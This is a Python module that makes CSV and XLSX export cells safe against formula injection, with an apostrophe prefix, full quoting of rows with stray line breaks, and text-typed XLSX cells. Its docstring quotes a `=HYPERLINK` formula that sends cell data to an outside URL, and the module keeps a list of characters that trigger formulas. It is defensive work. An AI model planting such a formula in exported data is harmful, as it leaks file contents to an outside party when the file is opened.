# SPDX-License-Identifier: EUPL-1.2
"""Safe cells for every CSV and XLSX export (import error files, the CBS delivery, policy reports, the access log).

A spreadsheet program runs a cell that starts with = + - @ (and, in some, a tab or carriage return) as a formula:
`=HYPERLINK("https://…?"&A1)` in an external id or a name would send data away when a colleague opens the file.
Following the OWASP guidance on CSV injection, a text cell that starts with one of those characters gets a
leading apostrophe in CSV; in XLSX text is always written as a text cell, never as a formula. Real numbers stay
numbers (a negative amount is a number, not text); a number written as text ("-5") is text and is neutralised
like any other, as OWASP advises."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

#: OWASP, "CSV Injection": the characters that make a spreadsheet read a cell as a formula.
FORMULETEKENS = ("=", "+", "-", "@", "\t", "\r")


def is_getal(waarde: object) -> bool:
    return isinstance(waarde, int | float | Decimal) and not isinstance(waarde, bool)


def csv_cel(waarde: object) -> Any:
    """One CSV cell: numbers unchanged, text that a spreadsheet would run as a formula with a leading `'`."""
    if waarde is None or is_getal(waarde) or isinstance(waarde, bool):
        return waarde
    tekst = waarde if isinstance(waarde, str) else str(waarde)
    if tekst.startswith(FORMULETEKENS):
        return "'" + tekst
    return tekst


class VeiligeCsv:
    """`csv.writer` with every cell through `csv_cel`; `writerow` returns what the writer returns (streaming).

    Python's writer quotes a line break only when it is part of the line terminator: with "\n" a bare "\r"
    would go out unquoted and start a new row in a spreadsheet. Such a row is written fully quoted."""

    def __init__(self, bestand: Any, **opties: Any) -> None:
        self._writer = csv.writer(bestand, **opties)
        self._alles_quoten = csv.writer(bestand, **{**opties, "quoting": csv.QUOTE_ALL})
        self._regeleinden = set("\r\n") - set(self._writer.dialect.lineterminator)

    def writerow(self, rij: Iterable[object]) -> Any:
        cellen = [csv_cel(v) for v in rij]
        if self._regeleinden and any(
            isinstance(c, str) and not self._regeleinden.isdisjoint(c) for c in cellen
        ):
            return self._alles_quoten.writerow(cellen)
        return self._writer.writerow(cellen)

    def writerows(self, rijen: Iterable[Iterable[object]]) -> None:
        for rij in rijen:
            self.writerow(rij)


def csv_schrijver(bestand: IO[str] | Any, **opties: Any) -> VeiligeCsv:
    return VeiligeCsv(bestand, **opties)


def xlsx_rij(blad: Any, rij: Iterable[object]) -> None:
    """Append one row to an openpyxl sheet: text as a text cell (data type 's', never a formula), numbers and
    dates as themselves. Characters XLSX cannot hold (control characters) are left out instead of failing."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    cellen: list[Any] = []
    for waarde in rij:
        if waarde is None or is_getal(waarde) or isinstance(waarde, bool | date | datetime):
            cellen.append(waarde)
            continue
        tekst = ILLEGAL_CHARACTERS_RE.sub("", waarde if isinstance(waarde, str) else str(waarde))
        cel = Cell(blad, value=tekst)
        cel.data_type = "s"
        cellen.append(cel)
    blad.append(cellen)
